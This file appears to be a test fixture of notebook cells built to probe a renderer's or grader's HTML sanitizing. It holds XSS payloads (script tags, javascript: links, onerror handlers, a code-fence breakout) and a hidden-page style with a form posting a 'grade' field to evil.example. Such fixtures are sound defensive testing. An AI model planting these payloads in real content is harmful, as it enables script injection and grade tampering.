"""Adds Markdown and raw cells with scripts, frames, forms, styles, javascript: links and tricks.

Earns: all
"""
# %% markdown
<script>alert(1)</script>

# %% markdown
[click](javascript:alert(1)) ![x](x" onerror="alert(1))

    not code
<img src=x onerror=alert(1)>

# %% raw
<script>alert(1)</script>

# %% markdown
```
</code></pre><script>alert(1)</script>
```

# %% markdown
<style>* { display: none }</style><form action="http://evil.example"><input name=grade></form>

# %% markdown
$$\href{javascript:alert(1)}{x}$$ <svg><animate onbegin=alert(1)></svg>
